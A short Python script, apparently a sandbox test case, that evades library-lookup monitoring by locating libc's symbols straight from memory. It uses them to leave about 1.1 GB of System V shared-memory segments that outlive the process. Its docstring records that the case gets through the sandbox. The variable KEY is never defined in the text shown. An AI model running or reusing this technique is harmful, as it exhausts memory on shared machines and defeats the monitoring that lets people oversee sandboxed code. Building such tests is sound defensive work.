"""Leave memory behind that outlives every process: segments of System V, filled and detached.

Noticed by: memory.
Seat belt: gets through.
"""

import ctypes
import time


def libc(name, *args):
    """Call a function of C by its address in memory; nothing is loaded or looked up."""
    base = ctypes._memmove_addr & ~4095
    while ctypes.string_at(base, 4) != b"\x7fELF":
        base -= 4096
    number = lambda at, size=8: int.from_bytes(ctypes.string_at(at, size), "little")
    first, many = base + number(base + 32), number(base + 56, 2)
    headers = range(first, first + 56 * many, 56)
    dynamic = next(base + number(at + 16) for at in headers if number(at, 4) == 2)
    tables = {number(at): number(at + 8) for at in range(dynamic, dynamic + 320, 16)}
    symbol = tables[6]
    while ctypes.string_at(tables[5] + number(symbol, 4)) != name:
        symbol += 24
    args = [ctypes.c_long(one) if isinstance(one, int) else one for one in args]
    return ctypes.CFUNCTYPE(ctypes.c_long)(base + number(symbol + 8))(*args)


for number in range(22):
    one = libc(b"shmget", KEY + number, 50 << 20, 0o1600)
    place = libc(b"shmat", one, None, 0)
    if place > 0:
        ctypes.memset(place, 57, 50 << 20)
        libc(b"shmdt", place)
time.sleep(0.5)
